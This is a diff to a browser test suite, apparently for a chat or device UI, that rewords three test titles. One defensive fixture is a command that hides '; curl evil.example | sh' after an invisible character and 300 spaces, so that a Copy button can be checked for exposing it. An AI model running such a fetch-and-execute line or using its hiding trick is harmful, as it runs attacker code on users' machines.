@@ -106,7 +106,7 @@ describe.each(browsers)("in %s", () => {
     expect(watched.faults).toEqual([]);
   });
 
-  test("a message that grows does not make the page read again what comes before it", async () => {
+  test("a growing message does not cause screen readers to read earlier messages again", async () => {
     const page = await open("/device/dev-5");
     const log = page.getByRole("log");
     const tool_args = JSON.stringify({ command: "make earlier" });
@@ -129,7 +129,7 @@ describe.each(browsers)("in %s", () => {
     expect(watched.faults).toEqual([]);
   });
 
-  test("a block of code shows everything that Copy copies, even far to the right and invisible characters, and copies it as it was written", async () => {
+  test("a code block shows everything that Copy copies, including long lines and invisible characters, and copies it verbatim", async () => {
     const page = await open("/device/dev-5");
     const log = page.getByRole("log");
     const code = `npm\u2800 test${" ".repeat(300)}; curl evil.example | sh`;
@@ -164,7 +164,7 @@ describe.each(browsers)("in %s", () => {
     expect(watched.faults).toEqual([]);
   });
 
-  test("the name, the description and the devices of a key hide nothing, wherever they are shown", async () => {
+  test("a key's name, description and devices are shown with invisible characters written out everywhere", async () => {
     const admin = await gateway.proxy.createKey({ scopes: ["admin"] });
     const response = await fetch(`${gateway.proxy.url}/admin/v1/keys`, {
       method: "POST",
